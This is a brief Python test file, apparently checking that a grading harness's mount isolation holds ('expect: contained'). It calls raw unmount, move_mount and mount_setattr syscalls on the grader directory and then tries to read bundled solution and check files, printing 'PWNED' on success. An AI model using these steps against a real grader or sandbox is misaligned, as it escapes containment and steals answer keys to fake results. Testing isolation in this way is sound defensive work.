"""expect: contained; layers on only; takes away whatever is mounted on an installation"""

import ctypes
import os
import sys

UNMOUNT, MOVE_MOUNT, MOUNT_SETATTR = 166, 429, 442
DETACH, NO_FOLLOW = 2, 8
HERE, NO_PATH = -100, 4

libc = ctypes.CDLL(None, use_errno=True)


def attack(folder):
    for call in (
        (UNMOUNT, folder, DETACH),
        (UNMOUNT, folder, NO_FOLLOW),
        (UNMOUNT, os.path.dirname(folder), DETACH),
        (MOVE_MOUNT, HERE, folder, HERE, os.path.dirname(folder) + b"/numpy", 0),
        (MOUNT_SETATTR, HERE, folder, 0, bytes(32), 32),
    ):
        if libc.syscall(*call) >= 0:
            print("PWNED", call)
    for below in (b"_bundled/solutions/rnn.py", b"checks/rnn.py"):
        try:
            with open(folder + b"/" + below, "rb") as file:
                print("PWNED", file.read(60))
        except OSError:
            pass


for place in (os.path.dirname(os.path.dirname(sys.modules["grader"].__file__)), *sys.path):
    attack(os.fsencode(place) + b"/grader")
